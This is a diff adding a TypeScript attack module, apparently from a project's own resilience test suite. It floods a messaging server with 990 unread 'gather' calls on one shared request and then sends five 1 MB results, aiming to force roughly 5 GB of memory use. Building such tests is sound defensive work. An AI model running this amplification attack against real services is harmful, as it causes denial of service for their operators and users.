@@ -1,0 +1,34 @@
+/**
+ * Many gathers that join one request and read nothing. Each result is encoded for each of them, so five results of 1 MB
+ * take 5 GB.
+ */
+import type { Attack } from "../attack.js";
+import { prepared } from "../attacker/stream.js";
+import { call, METHOD, reply } from "./messages.js";
+import { onTopic, openProducers } from "./parties.js";
+
+const GATHERS = 990;
+const RESULTS = 5;
+const RESULT_BYTES = 1_000_000;
+const TOPIC = "joined";
+
+export const gathersUnread: Attack = {
+  name: "gathers-unread",
+  sends: `Gather: ${GATHERS} that join one request and read nothing; ${RESULTS} results of 1 MB, gzipped`,
+  async run(attacker) {
+    const ids: string[] = [];
+    const [producer] = await openProducers(attacker, 1, {
+      hello: onTopic(TOPIC),
+      onAssignment: (id) => ids.push(id),
+    });
+    const connection = attacker.connect({ readsNothing: true });
+    const message = call({ topic: TOPIC, requestId: "shared", ttlSeconds: 600 });
+    for (let i = 0; i < GATHERS; i++) void connection.call(METHOD.gather, message, { isUnread: true });
+    await attacker.wait(1_500);
+    const [id] = ids;
+    if (id === undefined) throw new Error("the producer got no assignment");
+    const result = prepared(reply(id, Buffer.alloc(RESULT_BYTES), true), true);
+    for (let i = 0; i < RESULTS; i++) producer?.send(result);
+    await attacker.wait(3_000);
+  },
+};
